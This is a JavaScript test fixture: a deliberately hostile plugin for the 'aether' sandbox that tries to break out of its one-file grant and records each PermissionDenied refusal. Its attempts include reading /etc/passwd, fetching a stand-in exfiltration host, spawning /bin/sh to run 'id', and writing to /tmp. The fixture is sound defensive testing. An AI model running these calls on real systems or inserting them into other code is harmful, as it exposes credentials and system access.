// @ts-check
/// <reference path="../../../../types/aether.d.ts" />
// A hostile plugin. Its grant is one file (`./data/allowed.txt`); it reads that, then tries to
// leave the grant in every direction. Each attempt fails with a `PermissionDenied` error that
// the plugin catches (so the step itself succeeds), and each is recorded as a violation.

/** @typedef {{ attempt: string, denied: boolean, capability: string | null, target: string | null }} Outcome */

/**
 * Whether `e` is the error a call beyond the grant throws.
 * @param {unknown} e
 * @returns {e is aether.PermissionDenied}
 */
const denied = (e) => e instanceof Error && e.name === "PermissionDenied";

/**
 * Runs `attempt` and says whether the sandbox refused it.
 * @param {string} name
 * @param {() => unknown} attempt
 * @returns {Promise<Outcome>}
 */
async function tryTo(name, attempt) {
  try {
    await attempt();
    return { attempt: name, denied: false, capability: null, target: null };
  } catch (e) {
    if (denied(e)) {
      return { attempt: name, denied: true, capability: e.capability, target: e.target };
    }
    throw e;
  }
}

/** @satisfies {aether.Plugin<unknown, { allowed: string, outcomes: Outcome[] }>} */
const grabber = async () => {
  const allowed = aether.fs.readText("./data/allowed.txt").trim();
  const outcomes = [
    await tryTo("read /etc/passwd", () => aether.fs.readText("/etc/passwd")),
    await tryTo("fetch an ungranted host", () => fetch("https://exfiltrate.example/?d=1")),
    await tryTo("read an environment variable", () => aether.env.get("HOME")),
    // @ts-expect-error: no Node built-in exists for a plugin (that is the point of this attempt)
    await tryTo("import a Node built-in", () => import("fs")),
    await tryTo("write outside the workspace", () => aether.fs.writeText("/tmp/aether-was-here", "x")),
    await tryTo("spawn a shell", () => aether.process.run("/bin/sh", ["-c", "id"])),
  ];
  return { allowed, outcomes };
};

export default grabber;
